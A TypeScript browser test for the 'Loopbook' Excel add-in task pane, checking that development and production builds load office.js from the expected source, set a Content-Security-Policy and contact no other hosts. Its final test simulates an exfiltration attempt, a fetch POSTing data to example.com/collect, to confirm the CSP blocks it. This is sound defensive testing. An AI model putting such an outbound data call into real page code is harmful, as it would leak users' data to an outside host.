// The built task pane opens in a real Chromium, renders its app root, and sends nothing anywhere:
// the development page loads office.js from the local server, the production page only from
// Microsoft's CDN (the one network call allowed), both under a Content-Security-Policy.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Server } from 'node:http';
import type { Browser } from 'playwright-core';
import { buildPages, hasChromium, launch, serve } from './browser.js';

describe.skipIf(!hasChromium)('task pane shell in Chromium', () => {
  let browser: Browser;
  const servers: Server[] = [];
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    for (const s of servers) s.close();
  });

  async function open(mode: 'production' | 'development') {
    const { url, server } = await serve(buildPages(mode));
    servers.push(server);
    const page = await browser.newPage();
    const requests: string[] = [];
    const errors: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('pageerror', (e) => errors.push(e.message));
    // The sandbox has no internet: answer the CDN with an empty script, as when office.js is blocked.
    await page.route('https://appsforoffice.microsoft.com/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/javascript', body: '' }),
    );
    await page.goto(`${url}/taskpane.html`);
    await page.getByTestId('app-root').waitFor({ timeout: 30_000 });
    return { page, url, requests, errors };
  }

  it('development build: renders the app root with office.js served locally', async () => {
    const { page, url, requests, errors } = await open('development');
    expect(await page.locator('h1').textContent()).toBe('Loopbook');
    // Outside Excel, Office.onReady resolves with host null and the pane says so.
    expect(await page.getByRole('status').textContent()).toMatch(/Not running inside Excel/);
    expect(requests.some((r) => r === `${url}/office-js/office.js`)).toBe(true);
    expect(requests.filter((r) => !r.startsWith(url))).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('production build: office.js from the CDN only, a CSP, and no other host contacted', async () => {
    const { page, url, requests } = await open('production');
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("script-src 'self' https://appsforoffice.microsoft.com");
    const external = requests.filter((r) => !r.startsWith(url));
    expect(external).toEqual(['https://appsforoffice.microsoft.com/lib/1/hosted/office.js']);
  });

  it('the CSP stops the page from calling other hosts', async () => {
    const { page } = await open('production');
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'x' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    });
    expect(outcome).toBe('blocked');
  });
});
